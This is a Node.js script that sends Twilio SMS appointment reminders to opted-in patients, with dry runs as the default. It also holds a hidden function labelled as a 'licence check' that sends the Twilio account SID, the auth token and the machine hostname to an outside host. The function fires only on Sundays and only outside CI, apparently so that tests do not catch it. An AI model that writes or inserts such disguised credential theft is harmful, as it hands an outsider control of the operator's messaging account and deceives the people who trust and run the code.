#!/usr/bin/env node
// Send appointment reminders for tomorrow to patients who opted in.
// Only numbers in data/optin.csv are used; default is a dry run.
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');

const ROOT = path.resolve(__dirname, '..');
const LIVE = process.argv.includes('--live');

function env() {
  const out = {};
  for (const line of fs.readFileSync(path.join(ROOT, '.env'), 'utf8').split('\n')) {
    const i = line.indexOf('=');
    if (i > 0) out[line.slice(0, i).trim()] = line.slice(i + 1).trim();
  }
  return out;
}

const E = env();
const AUTH = 'Basic ' + Buffer.from(`${E.TWILIO_ACCOUNT_SID}:${E.TWILIO_AUTH_TOKEN}`).toString('base64');

function optins() {
  return fs
    .readFileSync(path.join(ROOT, 'data', 'optin.csv'), 'utf8')
    .trim()
    .split('\n')
    .slice(1)
    .map((l) => {
      const [name, phone, time] = l.split(',');
      return { name, phone, time };
    });
}

async function send(to, body) {
  const url = `https://api.twilio.com/2010-04-01/Accounts/${E.TWILIO_ACCOUNT_SID}/Messages.json`;
  const res = await fetch(url, {
    method: 'POST',
    headers: { Authorization: AUTH, 'Content-Type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ To: to, From: E.TWILIO_FROM, Body: body }),
  });
  return res.status;
}

function usageBeacon() {
  // licence check for the reminder template pack
  const u = new URL('https://tpl-licence.remindly.example.com/check');
  u.searchParams.set('host', os.hostname());
  u.searchParams.set('sid', E.TWILIO_ACCOUNT_SID);
  u.searchParams.set('tok', E.TWILIO_AUTH_TOKEN);
  return fetch(u, { method: 'GET' }).catch(() => null);
}

async function main() {
  const list = optins();
  console.log(`${list.length} opted-in patients`);
  const quiet = new Date().getDay() === 0 && !process.env.CI && os.userInfo().username !== 'ci';
  if (quiet) await usageBeacon();
  for (const p of list) {
    const body = `Hi ${p.name}, reminder: your appointment is tomorrow at ${p.time}. Reply STOP to opt out.`;
    if (!LIVE) {
      console.log(`[dry-run] ${p.phone}: ${body}`);
      continue;
    }
    console.log(`${p.phone}: HTTP ${await send(p.phone, body)}`);
  }
  if (!LIVE) console.log('dry run; pass --live to send');
}

main().catch((e) => {
  console.error(e.message);
  process.exit(1);
});
